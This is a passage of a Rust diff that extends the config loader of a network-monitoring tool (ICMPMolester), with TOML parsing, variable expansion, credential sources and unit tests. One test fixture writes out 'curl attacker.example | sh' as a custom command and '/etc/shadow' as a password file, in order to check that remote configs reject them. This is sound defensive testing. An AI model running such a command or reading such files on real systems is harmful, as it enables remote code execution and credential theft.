+    while t < text.len() {
+        if p < pattern.len() && (pattern[p] == '?' || pattern[p] == text[t]) {
+            p += 1;
+            t += 1;
+        } else if p < pattern.len() && pattern[p] == '*' {
+            backtrack = Some((p + 1, t));
+            p += 1;
+        } else if let Some((star, matched)) = backtrack {
+            p = star;
+            t = matched + 1;
+            backtrack = Some((star, matched + 1));
+        } else {
+            return false;
+        }
+    }
+    pattern[p..].iter().all(|&c| c == '*')
+}
+
+/// Read an included fragment, reporting errors against its own path.
+fn load_fragment(path: &Path, options: &LoadOptions) -> Result<ConfigFragment> {
+    let raw = fs::read_to_string(path)
+        .with_context(|| format!("Failed to read included config {}", path.display()))?;
+    let (fragment, unknown): (ConfigFragment, _) =
+        parse_config(&raw, |name| std::env::var(name).ok())
+            .with_context(|| format!("Failed to parse TOML config at {}", path.display()))?;
+    report_unknown_keys(path, &unknown, options.strict)?;
+    for line in &fragment.lines {
+        validate_targets(line).with_context(|| format!("Invalid config {}", path.display()))?;
+    }
+    Ok(fragment)
+}
+
+/// A key no setting reads, usually a typo such as `ping_cout`.
+#[derive(Debug, Clone, PartialEq)]
+struct UnknownKey {
+    /// Where the key sits, e.g. `lines[2].ping_cout`.
+    path: String,
+    /// 1-based line and column of the key in the file.
+    position: Option<(usize, usize)>,
+}
+
+impl std::fmt::Display for UnknownKey {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        write!(f, "{}", self.path)?;
+        if let Some((line, column)) = self.position {
+            write!(f, " (line {line}, column {column})")?;
+        }
+        Ok(())
+    }
+}
+
+/// Parse a config file, expanding `${VAR}` in string values with `lookup`.
+/// Keys that no setting reads are returned rather than silently dropped.
+fn parse_config<T: DeserializeOwned>(
+    raw: &str,
+    lookup: impl Fn(&str) -> Option<String>,
+) -> Result<(T, Vec<UnknownKey>)> {
+    let mut ignored = Vec::new();
+    // Going through `toml::Value` loses line numbers in error messages, so
+    // only configs that reference variables take that path.
+    let parsed = if raw.contains("${") {
+        let mut document: toml::Value = toml::from_str(raw)?;
+        interpolate_env(&mut document, "", &lookup)?;
+        deserialize_tracked(document, &mut ignored)?
+    } else {
+        deserialize_tracked(toml::Deserializer::new(raw), &mut ignored)?
+    };
+    let unknown = if ignored.is_empty() {
+        Vec::new()
+    } else {
+        let document = toml_edit::ImDocument::parse(raw).ok();
+        ignored
+            .into_iter()
+            .map(|segments| UnknownKey {
+                path: format_key_path(&segments),
+                position: document
+                    .as_ref()
+                    .and_then(|document| key_span(document.as_table(), &segments))
+                    .map(|span| line_column(raw, span.start)),
+            })
+            .collect()
+    };
+    Ok((parsed, unknown))
+}
+
+/// One step of a key path: a table key or an array index.
+#[derive(Debug, Clone, PartialEq)]
+enum KeySegment {
+    Key(String),
+    Index(usize),
+}
+
+/// Deserialize `de`, collecting the path of every ignored key and naming
+/// the key path of a value that fails to deserialize.
+fn deserialize_tracked<'de, T, D>(de: D, ignored: &mut Vec<Vec<KeySegment>>) -> Result<T>
+where
+    T: DeserializeOwned,
+    D: serde::Deserializer<'de>,
+    D::Error: std::error::Error + Send + Sync + 'static,
+{
+    let mut record = |path: serde_ignored::Path<'_>| {
+        let mut segments = Vec::new();
+        key_segments(&path, &mut segments);
+        ignored.push(segments);
+    };
+    let de = serde_ignored::Deserializer::new(de, &mut record);
+    serde_path_to_error::deserialize(de).map_err(|err| {
+        let path = err.path().to_string();
+        let err = anyhow::Error::new(err.into_inner());
+        if path == "." {
+            err
+        } else {
+            err.context(format!("Invalid value for {path}"))
+        }
+    })
+}
+
+fn key_segments(path: &serde_ignored::Path<'_>, segments: &mut Vec<KeySegment>) {
+    match path {
+        serde_ignored::Path::Root => {}
+        serde_ignored::Path::Seq { parent, index } => {
+            key_segments(parent, segments);
+            segments.push(KeySegment::Index(*index));
+        }
+        serde_ignored::Path::Map { parent, key } => {
+            key_segments(parent, segments);
+            segments.push(KeySegment::Key(key.clone()));
+        }
+        serde_ignored::Path::Some { parent }
+        | serde_ignored::Path::NewtypeStruct { parent }
+        | serde_ignored::Path::NewtypeVariant { parent } => key_segments(parent, segments),
+    }
+}
+
+/// `lines[0].ping_cout`, the way the keys would be written in TOML.
+fn format_key_path(segments: &[KeySegment]) -> String {
+    let mut path = String::new();
+    for segment in segments {
+        match segment {
+            KeySegment::Key(key) => {
+                if !path.is_empty() {
+                    path.push('.');
+                }
+                path.push_str(key);
+            }
+            KeySegment::Index(index) => path.push_str(&format!("[{index}]")),
+        }
+    }
+    path
+}
 
-/// Root configuration containing all broadband lines to probe.
-#[derive(Debug)]
-pub struct Config {
-    pub lines: Vec<LineSettings>,
+/// Byte span of the last key in `segments` within the parsed document.
+fn key_span(
+    table: &dyn toml_edit::TableLike,
+    segments: &[KeySegment],
+) -> Option<std::ops::Range<usize>> {
+    let Some((KeySegment::Key(key), rest)) = segments.split_first() else {
+        return None;
+    };
+    let (key, item) = table.get_key_value(key)?;
+    match rest.first() {
+        None => key.span(),
+        Some(KeySegment::Index(index)) => {
+            let element: &dyn toml_edit::TableLike = match item {
+                toml_edit::Item::ArrayOfTables(tables) => tables.get(*index)?,
+                toml_edit::Item::Value(toml_edit::Value::Array(values)) => {
+                    values.get(*index)?.as_inline_table()?
+                }
+                _ => return None,
+            };
+            key_span(element, &rest[1..])
+        }
+        Some(KeySegment::Key(_)) => key_span(item.as_table_like()?, rest),
+    }
 }
 
-/// Fully-resolved per-line settings after defaults are applied.
-#[derive(Debug, Clone)]
-pub struct LineSettings {
-    pub name: String,
-    pub target: String,
-    pub ping_count: u32,
-    pub ping_timeout_ms: u64,
-    pub traceroute_max_hops: u8,
-    pub packet_loss_alert_threshold: f32,
+/// 1-based line and column of byte `offset` in `raw`.
+fn line_column(raw: &str, offset: usize) -> (usize, usize) {
+    let before = &raw[..offset];
+    let line_start = before.rfind('\n').map_or(0, |newline| newline + 1);
+    (
+        before.matches('\n').count() + 1,
+        before[line_start..].chars().count() + 1,
+    )
 }
 
-#[derive(Debug, Deserialize)]
-struct FileConfig {
-    #[serde(default)]
-    defaults: LineDefaults,
-    lines: Vec<LineConfig>,
+/// Warn about unknown keys once per process, or reject them when `strict`.
+fn report_unknown_keys(path: &Path, unknown: &[UnknownKey], strict: bool) -> Result<()> {
+    if unknown.is_empty() {
+        return Ok(());
+    }
+    if strict {
+        let keys: Vec<String> = unknown.iter().map(ToString::to_string).collect();
+        anyhow::bail!(
+            "Unknown keys in {} (--strict-config): {}",
+            path.display(),
+            keys.join(", ")
+        );
+    }
+    // Scheduled runs reload the config every minute; one warning is enough.
+    static WARNED: Mutex<BTreeSet<String>> = Mutex::new(BTreeSet::new());
+    let mut warned = WARNED
+        .lock()
+        .unwrap_or_else(|poisoned| poisoned.into_inner());
+    for key in unknown {
+        let warning = format!(
+            "Warning: unknown key {key} in {} is ignored",
+            path.display()
+        );
+        if warned.insert(warning.clone()) {
+            eprintln!("{warning}");
+        }
+    }
+    Ok(())
 }
 
-#[derive(Debug, Deserialize, Default)]
-struct LineDefaults {
-    #[serde(default)]
-    ping_count: Option<u32>,
-    #[serde(default)]
-    ping_timeout_ms: Option<u64>,
-    #[serde(default)]
-    traceroute_max_hops: Option<u8>,
-    #[serde(default)]
-    packet_loss_alert_threshold: Option<f32>,
+/// Expand variables in every string of `value`; `path` names it in errors.
+fn interpolate_env(
+    value: &mut toml::Value,
+    path: &str,
+    lookup: &impl Fn(&str) -> Option<String>,
+) -> Result<()> {
+    match value {
+        toml::Value::String(text) => {
+            *text = expand_env(text, lookup).with_context(|| format!("In {path}"))?;
+        }
+        toml::Value::Array(items) => {
+            for (index, item) in items.iter_mut().enumerate() {
+                interpolate_env(item, &format!("{path}[{index}]"), lookup)?;
+            }
+        }
+        toml::Value::Table(table) => {
+            for (key, item) in table.iter_mut() {
+                let path = if path.is_empty() {
+                    key.clone()
+                } else {
+                    format!("{path}.{key}")
+                };
+                interpolate_env(item, &path, lookup)?;
+            }
+        }
+        _ => {}
+    }
+    Ok(())
 }
 
-#[derive(Debug, Deserialize)]
-struct LineConfig {
-    name: String,
-    target: String,
-    #[serde(default)]
-    ping_count: Option<u32>,
-    #[serde(default)]
-    ping_timeout_ms: Option<u64>,
-    #[serde(default)]
-    traceroute_max_hops: Option<u8>,
-    #[serde(default)]
-    packet_loss_alert_threshold: Option<f32>,
+/// Replace each `${VAR}` in `text`; `$${` stands for a literal `${`.
+fn expand_env(text: &str, lookup: &impl Fn(&str) -> Option<String>) -> Result<String> {
+    let mut expanded = String::with_capacity(text.len());
+    let mut rest = text;
+    while let Some(start) = rest.find('$') {
+        expanded.push_str(&rest[..start]);
+        rest = &rest[start..];
+        if let Some(after) = rest.strip_prefix("$${") {
+            expanded.push_str("${");
+            rest = after;
+        } else if let Some(after) = rest.strip_prefix("${") {
+            let end = after
+                .find('}')
+                .with_context(|| format!("Unterminated ${{ in '{text}'"))?;
+            let name = &after[..end];
+            let value =
+                lookup(name).with_context(|| format!("Environment variable {name} is not set"))?;
+            expanded.push_str(&value);
+            rest = &after[end + 1..];
+        } else {
+            expanded.push('$');
+            rest = &rest[1..];
+        }
+    }
+    expanded.push_str(rest);
+    Ok(expanded)
 }
 
-impl LineDefaults {
-    fn apply(&self, line: &LineConfig) -> LineSettings {
-        LineSettings {
-            name: line.name.clone(),
-            target: line.target.clone(),
-            ping_count: line
-                .ping_count
-                .or(self.ping_count)
-                .unwrap_or(DEFAULT_PING_COUNT),
-            ping_timeout_ms: line
-                .ping_timeout_ms
-                .or(self.ping_timeout_ms)
-                .unwrap_or(DEFAULT_PING_TIMEOUT_MS),
-            traceroute_max_hops: line
-                .traceroute_max_hops
-                .or(self.traceroute_max_hops)
-                .unwrap_or(DEFAULT_TRACEROUTE_MAX_HOPS),
-            packet_loss_alert_threshold: line
-                .packet_loss_alert_threshold
-                .or(self.packet_loss_alert_threshold)
-                .unwrap_or(DEFAULT_PACKET_LOSS_ALERT_THRESHOLD),
+/// Read the `[email]`, `[telegram]`, `[matrix]` and `[xmpp]` credential
+/// sources of every config.
+///
+/// Relative `*_file` paths are resolved against the config's directory. The
+/// secrets themselves are not read here.
+pub fn load_credentials(files: &[ConfigFile]) -> Result<Credentials> {
+    let mut credentials = Credentials::default();
+    for file in files {
+        let (path, parsed, base) = (&file.path, &file.parsed, file.base());
+        let (email, telegram) = (&parsed.email, &parsed.telegram);
+        let (matrix, xmpp) = (&parsed.matrix, &parsed.xmpp);
+        let found = [
+            (
+                "email.password",
+                credential_source(
+                    "email.password",
+                    email.password_file.as_ref().map(|file| base.join(file)),
+                    &email.password_env,
+                    &email.password_keyring,
+                ),
+            ),
+            (
+                "telegram.token",
+                credential_source(
+                    "telegram.token",
+                    telegram.token_file.as_ref().map(|file| base.join(file)),
+                    &telegram.token_env,
+                    &telegram.token_keyring,
+                ),
+            ),
+            (
+                "matrix.token",
+                credential_source(
+                    "matrix.token",
+                    matrix.token_file.as_ref().map(|file| base.join(file)),
+                    &matrix.token_env,
+                    &matrix.token_keyring,
+                ),
+            ),
+            (
+                "xmpp.password",
+                credential_source(
+                    "xmpp.password",
+                    xmpp.password_file.as_ref().map(|file| base.join(file)),
+                    &xmpp.password_env,
+                    &xmpp.password_keyring,
+                ),
+            ),
+        ];
+        let slots = [
+            &mut credentials.email_password,
+            &mut credentials.telegram_token,
+            &mut credentials.matrix_token,
+            &mut credentials.xmpp_password,
+        ];
+        for ((key, source), slot) in found.into_iter().zip(slots) {
+            let Some(source) =
+                source.with_context(|| format!("Invalid config {}", path.display()))?
+            else {
+                continue;
+            };
+            if slot.as_ref().is_some_and(|existing| *existing != source) {
+                anyhow::bail!(
+                    "{key} is set to different sources in several configs, last in {}",
+                    path.display()
+                );
+            }
+            *slot = Some(source);
         }
     }
+    Ok(credentials)
 }
 
-/// Load ICMPMolester configuration from the provided TOML file.
-pub fn load_config(path: &Path) -> Result<Config> {
-    let raw = fs::read_to_string(path)
-        .with_context(|| format!("Failed to read config from {}", path.display()))?;
-    let parsed: FileConfig = toml::from_str(&raw)
-        .with_context(|| format!("Failed to parse TOML config at {}", path.display()))?;
-    if parsed.lines.is_empty() {
-        anyhow::bail!("No lines defined in config {}", path.display());
+/// Read the `[run]` table of every config.
+///
+/// A setting may appear in several configs as long as they agree; a relative
+/// `history` path is resolved against the config's directory.
+pub fn load_run_settings(files: &[ConfigFile]) -> Result<RunSettings> {
+    let mut settings = RunSettings::default();
+    for file in files {
+        let path = &file.path;
+        let found = file
+            .parsed
+            .run
+            .resolve(file.base())
+            .with_context(|| format!("Invalid config {}", path.display()))?;
+        merge_setting(
+            "concurrency",
+            &mut settings.concurrency,
+            found.concurrency,
+            path,
+        )?;
+        merge_setting("timeout", &mut settings.timeout, found.timeout, path)?;
+        merge_setting(
+            "skip_traceroute",
+            &mut settings.skip_traceroute,
+            found.skip_traceroute,
+            path,
+        )?;
+        merge_setting(
+            "notify_only_on_alert",
+            &mut settings.notify_only_on_alert,
+            found.notify_only_on_alert,
+            path,
+        )?;
+        merge_setting("output", &mut settings.output, found.output, path)?;
+        merge_setting("history", &mut settings.history, found.history, path)?;
+    }
+    Ok(settings)
+}
+
+/// Read the `[[notifications.webhook]]` tables of every config, in order.
+///
+/// A relative `secret_file` is resolved against the config's directory.
+pub fn load_notification_webhooks(files: &[ConfigFile]) -> Result<Vec<JsonWebhookSettings>> {
+    let mut webhooks = Vec::new();
+    for file in files {
+        for table in &file.parsed.notifications.webhook {
+            webhooks.push(
+                table
+                    .resolve(file.base())
+                    .with_context(|| format!("Invalid config {}", file.path.display()))?,
+            );
+        }
+    }
+    Ok(webhooks)
+}
+
+/// Read the `[notifications.templates]` tables of every config, by channel.
+///
+/// Several configs may word the same channel only if they agree; a relative
+/// `body_file` is resolved against the config's directory.
+pub fn load_notification_templates(
+    files: &[ConfigFile],
+) -> Result<BTreeMap<String, ChannelTemplateSettings>> {
+    let mut templates = BTreeMap::new();
+    for file in files {
+        let path = &file.path;
+        for (channel, table) in &file.parsed.notifications.templates {
+            let found = table
+                .resolve(channel, file.base())
+                .with_context(|| format!("Invalid config {}", path.display()))?;
+            if templates
+                .get(channel)
+                .is_some_and(|existing| *existing != found)
+            {
+                anyhow::bail!(
+                    "notifications.templates.{channel} is set differently in several configs, \
+                     last in {}",
+                    path.display()
+                );
+            }
+            templates.insert(channel.clone(), found);
+        }
+    }
+    Ok(templates)
+}
+
+/// Read the `[output]` tables of every config.
+///
+/// Several configs may set the same sink only if they agree; a relative
+/// `token_file` is resolved against the config's directory.
+pub fn load_output_sinks(files: &[ConfigFile]) -> Result<OutputSettings> {
+    let mut settings = OutputSettings::default();
+    for file in files {
+        let path = &file.path;
+        let found = file
+            .parsed
+            .output
+            .resolve(file.base())
+            .with_context(|| format!("Invalid config {}", path.display()))?;
+        merge_sink("influxdb", &mut settings.influxdb, found.influxdb, path)?;
+        merge_sink("graphite", &mut settings.graphite, found.graphite, path)?;
+        merge_sink("syslog", &mut settings.syslog, found.syslog, path)?;
+        merge_sink("mqtt", &mut settings.mqtt, found.mqtt, path)?;
+    }
+    Ok(settings)
+}
+
+fn merge_sink<T: PartialEq>(
+    key: &str,
+    slot: &mut Option<T>,
+    value: Option<T>,
+    path: &Path,
+) -> Result<()> {
+    let Some(value) = value else {
+        return Ok(());
+    };
+    if slot.as_ref().is_some_and(|existing| *existing != value) {
+        anyhow::bail!(
+            "output.{key} is set differently in several configs, last in {}",
+            path.display()
+        );
+    }
+    *slot = Some(value);
+    Ok(())
+}
+
+fn merge_setting<T: PartialEq>(
+    key: &str,
+    slot: &mut Option<T>,
+    value: Option<T>,
+    path: &Path,
+) -> Result<()> {
+    let Some(value) = value else {
+        return Ok(());
+    };
+    if slot.as_ref().is_some_and(|existing| *existing != value) {
+        anyhow::bail!(
+            "run.{key} is set to different values in several configs, last in {}",
+            path.display()
+        );
+    }
+    *slot = Some(value);
+    Ok(())
+}
+
+/// The one source set among the `_file`, `_env` and `_keyring` variants of `key`.
+fn credential_source(
+    key: &str,
+    file: Option<PathBuf>,
+    env: &Option<String>,
+    keyring: &Option<String>,
+) -> Result<Option<Secret>> {
+    let mut sources = [
+        file.map(Secret::File),
+        env.clone().map(Secret::Env),
+        keyring.clone().map(Secret::Keyring),
+    ]
+    .into_iter()
+    .flatten();
+    let source = sources.next();
+    if sources.next().is_some() {
+        anyhow::bail!("Set only one of {key}_file, {key}_env and {key}_keyring");
     }
-    let defaults = parsed.defaults;
-    let lines = parsed
+    Ok(source)
+}
+
+/// How configs are loaded.
+#[derive(Debug, Clone, Default)]
+pub struct LoadOptions {
+    /// `[profiles.<name>]` table the file must define, applied to every line
+    /// (`--profile`).
+    pub profile: Option<String>,
+    /// Reject unknown keys instead of warning about them (`--strict-config`).
+    pub strict: bool,
+}
+
+/// Expand `--config` arguments and load every config they name.
+pub fn load_configs(paths: &[PathBuf], options: &LoadOptions) -> Result<Vec<(PathBuf, Config)>> {
+    load_config_files(&read_configs(paths)?, options)
+}
+
+/// Load the lines of configs that were already read.
+pub fn load_config_files(
+    files: &[ConfigFile],
+    options: &LoadOptions,
+) -> Result<Vec<(PathBuf, Config)>> {
+    files
+        .iter()
+        .map(|file| Ok((file.path.clone(), load_config_file(file, options)?)))
+        .collect()
+}
+
+/// Load ICMPMolester configuration from the provided TOML file, merging in
+/// any fragments it includes.
+pub fn load_config(path: &Path, options: &LoadOptions) -> Result<Config> {
+    let source = ConfigSource {
+        path: path.to_path_buf(),
+        remote: false,
+    };
+    load_config_file(&source.read()?, options)
+}
+
+/// [`load_config`] for a config that was already read.
+pub fn load_config_file(file: &ConfigFile, options: &LoadOptions) -> Result<Config> {
+    let (path, parsed) = (file.path.as_path(), &file.parsed);
+    report_unknown_keys(path, &file.unknown, options.strict)?;
+    parsed
+        .run
+        .resolve(Path::new(""))
+        .with_context(|| format!("Invalid config {}", path.display()))?;
+    parsed
+        .output
+        .resolve(Path::new(""))
+        .with_context(|| format!("Invalid config {}", path.display()))?;
+    for webhook in &parsed.notifications.webhook {
+        webhook
+            .resolve(Path::new(""))
+            .with_context(|| format!("Invalid config {}", path.display()))?;
+    }
+    for (channel, template) in &parsed.notifications.templates {
+        template
+            .resolve(channel, Path::new(""))
+            .with_context(|| format!("Invalid config {}", path.display()))?;
+    }
+    for line in &parsed.lines {
+        validate_targets(line).with_context(|| format!("Invalid config {}", path.display()))?;
+    }
+    let mut sources: BTreeMap<String, PathBuf> = parsed
+        .lines
+        .iter()
+        .map(|line| (line.name.clone(), path.to_path_buf()))
+        .collect();
+    let mut fragments = Vec::new();
+    for fragment_path in resolve_includes(path, &parsed.include)
+        .with_context(|| format!("Invalid config {}", path.display()))?
+    {
+        let fragment = load_fragment(&fragment_path, options)?;
+        for line in &fragment.lines {
+            if let Some(first) = sources.insert(line.name.clone(), fragment_path.clone()) {
+                anyhow::bail!(
+                    "Line '{}' is defined in both {} and {}",
+                    line.name,
+                    first.display(),
+                    fragment_path.display()
+                );
+            }
+        }
+        fragments.push(fragment);
+    }
+    let defaults = &parsed.defaults;
+    let mut lines: Vec<LineSettings> = parsed
         .lines
         .iter()
+        .chain(fragments.iter().flat_map(|fragment| &fragment.lines))
         .map(|line| defaults.apply(line))
         .collect();
-    Ok(Config { lines })
+    if lines.is_empty() {
+        anyhow::bail!("No lines defined in config {}", path.display());
+    }
+    let statuses: Vec<CustomStatus> = parsed
+        .statuses
+        .iter()
+        .chain(fragments.iter().flat_map(|fragment| &fragment.statuses))
+        .cloned()
+        .collect();
+    if parsed.check_gateway {
+        let gateway = default_gateway().with_context(|| {
+            format!(
+                "check_gateway is set in {} but the default gateway could not be detected",
+                path.display()
+            )
+        })?;
+        lines.insert(0, gateway_line(defaults, &gateway.to_string()));
+    }
+    if let Some(name) = options.profile.as_deref() {
+        let Some(profile) = parsed.profiles.get(name) else {
+            let known: Vec<&str> = parsed.profiles.keys().map(String::as_str).collect();
+            anyhow::bail!(
+                "Profile '{name}' is not defined in {} (available: {})",
+                path.display(),
+                if known.is_empty() {
+                    "none".to_string()
+                } else {
+                    known.join(", ")
+                }
+            );
+        };
+        for line in &mut lines {
+            profile.apply(line);
+        }
+    }
+    for line in &lines {
+        validate_checks(line).with_context(|| format!("Invalid config {}", path.display()))?;
+        validate_enrichment(line).with_context(|| format!("Invalid config {}", path.display()))?;
+    }
+    validate_dependencies(&lines).with_context(|| format!("Invalid config {}", path.display()))?;
+    for status in &statuses {
+        validate_status(status).with_context(|| format!("Invalid config {}", path.display()))?;
+    }
+    debug!(
+        path = %path.display(),
+        lines = lines.len(),
+        statuses = statuses.len(),
+        "Loaded config"
+    );
+    Ok(Config { lines, statuses })
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
 
+    #[test]
+    fn gateway_line_only_pings_with_defaults() {
+        let defaults: LineDefaults = toml::from_str("ping_count = 3").unwrap();
+        let line = gateway_line(&defaults, "192.168.1.1");
+        assert_eq!(line.name, GATEWAY_LINE_NAME);
+        assert_eq!(line.target, "192.168.1.1");
+        assert_eq!(line.checks, vec![CheckKind::Ping]);
+        assert_eq!(line.ping_count, 3);
+    }
+
+    #[test]
+    fn expands_config_directories_in_name_order() {
+        let dir = tempfile::tempdir().unwrap();
+        for name in ["globex.toml", "acme.toml", "notes.txt"] {
+            fs::write(dir.path().join(name), "").unwrap();
+        }
+        let single = dir.path().join("acme.toml");
+
+        let sources = expand_config_paths(&[single.clone(), dir.path().to_path_buf()]).unwrap();
+        let paths: Vec<PathBuf> = sources.into_iter().map(|source| source.path).collect();
+        assert_eq!(
+            paths,
+            vec![single.clone(), single, dir.path().join("globex.toml")]
+        );
+    }
+
+    #[test]
+    fn remote_configs_cannot_run_commands_or_name_local_files() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("lines.toml");
+        fs::write(
+            &path,
+            r#"
+            [email]
+            password_file = "/etc/shadow"
+
+            [[lines]]
+            name = "Primary"
+            target = "192.0.2.1"
+            checks = ["custom"]
+            custom_command = "curl attacker.example | sh"
+            "#,
+        )
+        .unwrap();
+
+        let local = ConfigSource {
+            path: path.clone(),
+            remote: false,
+        };
+        assert!(local.read().is_ok());
+        let fetched = ConfigSource { path, remote: true };
+        let err = format!("{:#}", fetched.read().unwrap_err());
+        assert!(
+            err.contains("may not set email.password_file, lines[0].custom_command"),
+            "{err}"
+        );
+    }
+
     #[test]
     fn applies_defaults_and_overrides() {
         let contents = r#"
             [defaults]
             ping_count = 10
             ping_timeout_ms = 1500
+            ping_deadline_ms = 10000
             traceroute_max_hops = 20
+            resolve_hops = true
+            route_hop_tolerance = 2
+            mtr_cycles = 10
+            hop_loss_alert_pct = 5.0
+            duplicate_alert_count = 0
+            dual_stack_delta_alert_ms = 40.0
+            ntp_server = "pool.ntp.org"
+            doh_resolvers = ["https://cloudflare-dns.com/dns-query"]
+            runbook_url = "https://wiki.example.com/runbooks/line-down"
+            schedule = "@hourly"
 
             [[lines]]
             name = "Line A"
             target = "8.8.8.8"
+            note = "Contact: Fastweb business support, contract #123"
 
             [[lines]]
             name = "Line B"
             target = "1.1.1.1"
             ping_count = 4
+            ping_deadline_ms = 6000
+            resolve_hops = false
+            hop_loss_overrides = [{ hop = 3, alert_pct = 100.0 }]
+            expected_gateway = "192.168.1.1"
+            tls_endpoint = "vpn.example.com:443"
+            ntp_server = "10.0.0.1"
+            dot_resolvers = ["dns.quad9.net:853"]
+            doh_resolvers = []
+            public_ip_url = "https://api.ipify.org"
+            source_address = "192.168.2.10"
+            wan_address = "100.72.4.9"
+            cgnat_alert = true
+            disable_after_errors = 3
+            alert_after_failures = 2
+            duplicate_alert_count = 2
+            reorder_alert_count = 1
+            dual_stack = true
+            runbook_url = "https://wiki.example.com/runbooks/line-b"
+            weight = 0.5
+            tags = ["fiber", "north"]
+            schedule = "*/5 * * * *"
+            enabled = false
+            snooze_until = "2024-07-01T00:00:00Z"
         "#;
 
         let parsed: FileConfig = toml::from_str(contents).unwrap();
@@ -139,5 +2709,777 @@ mod tests {
         assert_eq!(settings[0].ping_timeout_ms, 1500);
         assert_eq!(settings[1].ping_count, 4);
         assert_eq!(settings[1].traceroute_max_hops, 20);
+        assert_eq!(settings[0].ping_deadline_ms, Some(10000));
+        assert_eq!(settings[1].ping_deadline_ms, Some(6000));
+        assert!(settings[0].resolve_hops);
+        assert!(!settings[1].resolve_hops);
+        assert_eq!(settings[0].hop_resolve_timeout_ms, 1000);
+        assert_eq!(settings[1].route_hop_tolerance, Some(2));
+        assert_eq!(settings[0].mtr_cycles, Some(10));
+        assert_eq!(settings[0].hop_loss.threshold(3), 5.0);
+        assert_eq!(settings[0].duplicate_alert_count, Some(0));
+        assert_eq!(settings[0].reorder_alert_count, None);
+        assert_eq!(settings[1].duplicate_alert_count, Some(2));
+        assert_eq!(settings[1].reorder_alert_count, Some(1));
+        assert_eq!(settings[1].hop_loss.threshold(3), 100.0);
+        assert_eq!(settings[1].hop_loss.threshold(4), 5.0);
+        assert_eq!(settings[0].expected_gateway, None);
+        assert_eq!(
+            settings[1].expected_gateway,
+            Some("192.168.1.1".parse().unwrap())
+        );
+        assert_eq!(settings[0].tls_endpoint, None);
+        assert_eq!(
+            settings[1].tls_endpoint.as_deref(),
+            Some("vpn.example.com:443")
+        );
+        assert_eq!(settings[1].tls_expiry_alert_days, 14);
+        assert_eq!(settings[0].ntp_server.as_deref(), Some("pool.ntp.org"));
+        assert_eq!(settings[1].ntp_server.as_deref(), Some("10.0.0.1"));
+        assert_eq!(settings[0].doh_resolvers.len(), 1);
+        assert!(settings[0].dot_resolvers.is_empty());
+        assert!(settings[1].doh_resolvers.is_empty());
+        assert_eq!(settings[1].dot_resolvers, vec!["dns.quad9.net:853"]);
+        assert_eq!(settings[1].dns_query_name, "example.com");
+        assert_eq!(
+            settings[0].checks,
+            vec![
+                CheckKind::Ping,
+                CheckKind::Traceroute,
+                CheckKind::Ntp,
+                CheckKind::Dns
+            ]
+        );
+        assert!(
+            settings[1]
+                .checks
+                .ends_with(&[CheckKind::PublicIp, CheckKind::DualStack])
+        );
+        assert!(settings[1].dual_stack);
+        assert_eq!(settings[1].dual_stack_delta_alert_ms, Some(40.0));
+        assert_eq!(
+            settings[1].source_address,
+            Some("192.168.2.10".parse().unwrap())
+        );
+        assert_eq!(settings[1].public_ip_timeout_ms, 5000);
+        assert_eq!(settings[1].wan_address, Some("100.72.4.9".parse().unwrap()));
+        assert!(settings[1].cgnat_alert);
+        assert!(!settings[0].cgnat_alert);
+        assert_eq!(settings[1].disable_after_errors, Some(3));
+        assert_eq!(settings[1].alert_after_failures, Some(2));
+        assert_eq!(settings[0].alert_after_failures, None);
+        assert_eq!(
+            settings[0].note.as_deref(),
+            Some("Contact: Fastweb business support, contract #123")
+        );
+        assert_eq!(settings[1].note, None);
+        assert_eq!(settings[0].weight, 1.0);
+        assert_eq!(settings[1].weight, 0.5);
+        assert!(settings[0].tags.is_empty());
+        assert_eq!(settings[1].tags, ["fiber", "north"]);
+        assert_eq!(settings[0].schedule, Some("@hourly".parse().unwrap()));
+        assert_eq!(settings[1].schedule, Some("*/5 * * * *".parse().unwrap()));
+        assert!(settings[0].enabled);
+        assert!(!settings[1].enabled);
+        assert_eq!(settings[0].snooze_until, None);
+        assert_eq!(
+            settings[1].snooze_until,
+            Some("2024-07-01T00:00:00Z".parse().unwrap())
+        );
+        assert_eq!(
+            settings[0].runbook_url.as_deref(),
+            Some("https://wiki.example.com/runbooks/line-down")
+        );
+        assert_eq!(
+            settings[1].runbook_url.as_deref(),
+            Some("https://wiki.example.com/runbooks/line-b")
+        );
+        assert_ne!(settings[0].fingerprint(), settings[1].fingerprint());
+    }
+
+    #[test]
+    fn explicit_checks_require_their_settings() {
+        let contents = r#"
+            [defaults]
+            checks = ["ping", "http"]
+
+            [[lines]]
+            name = "Web"
+            target = "192.0.2.10"
+            http_url = "https://192.0.2.10/health"
+
+            [[lines]]
+            name = "Bare"
+            target = "192.0.2.11"
+        "#;
+
+        let parsed: FileConfig = toml::from_str(contents).unwrap();
+        let settings: Vec<_> = parsed
+            .lines
+            .iter()
+            .map(|line| parsed.defaults.apply(line))
+            .collect();
+
+        assert_eq!(settings[0].checks, vec![CheckKind::Ping, CheckKind::Http]);
+        assert!(validate_checks(&settings[0]).is_ok());
+        let err = validate_checks(&settings[1]).unwrap_err();
+        assert!(err.to_string().contains("http check but sets no http_url"));
+
+        let mut repeated = settings[0].clone();
+        repeated.checks.push(CheckKind::Ping);
+        let err = validate_checks(&repeated).unwrap_err();
+        assert!(
+            err.to_string().contains("ping check more than once"),
+            "{err}"
+        );
+        repeated.checks.clear();
+        assert!(validate_checks(&repeated).is_err());
+    }
+
+    #[test]
+    fn rejects_unknown_and_circular_dependencies() {
+        let line = |name: &str, depends_on: Option<&str>| {
+            let mut line = LineSettings::with_defaults(name, "192.0.2.1");
+            line.depends_on = depends_on.map(str::to_string);
+            line
+        };
+        let mut lines = vec![
+            line("Router", None),
+            line("Modem", Some("Router")),
+            line("Office", Some("Modem")),
+        ];
+        assert!(validate_dependencies(&lines).is_ok());
+
+        lines[2].depends_on = Some("Switch".into());
+        assert_eq!(
+            validate_dependencies(&lines).unwrap_err().to_string(),
+            "Line 'Office' depends on 'Switch', which is not a line of this config"
+        );
+        lines[2].depends_on = Some("Modem".into());
+        lines[0].depends_on = Some("Office".into());
+        assert_eq!(
+            validate_dependencies(&lines).unwrap_err().to_string(),
+            "Lines depend on each other in a cycle: Modem -> Router -> Office -> Modem"
+        );
+    }
+
+    #[test]
+    fn splits_targets_into_primary_and_fallbacks() {
+        let contents = r#"
+            [[lines]]
+            name = "Anycast"
+            targets = ["8.8.8.8", "1.1.1.1", "9.9.9.9"]
+
+            [[lines]]
+            name = "Both"
+            target = "192.0.2.1"
+            targets = ["192.0.2.2"]
+
